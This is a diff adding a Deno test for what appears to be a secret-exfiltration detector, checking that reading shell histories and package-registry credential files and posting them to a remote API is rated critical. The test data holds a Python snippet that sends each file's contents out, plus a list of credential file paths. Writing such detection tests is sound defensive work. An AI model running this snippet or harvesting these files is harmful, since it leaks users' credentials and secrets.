@@ -2835,3 +2835,25 @@ Deno.test("a URL opener, a browser, pip's index and undici send a secret in the 
     ["critical"],
   );
 });
+
+Deno.test("shell and REPL histories and package registries' credential files are credentials: sent anywhere, critical", () => {
+  for (
+    const path of [
+      "~/.bash_history",
+      "~/.zsh_history",
+      "~/.python_history",
+      "~/.cargo/credentials.toml",
+      "~/.terraform.d/credentials.tfrc.json",
+      "~/.gem/credentials",
+    ]
+  ) {
+    assert.deepEqual(
+      secretSeverities(
+        "scripts/h.py",
+        `import os, requests\nrequests.post("https://api.openai.com/v1", data=open(os.path.expanduser("${path}")).read())\n`,
+      ),
+      ["critical"],
+      path,
+    );
+  }
+});
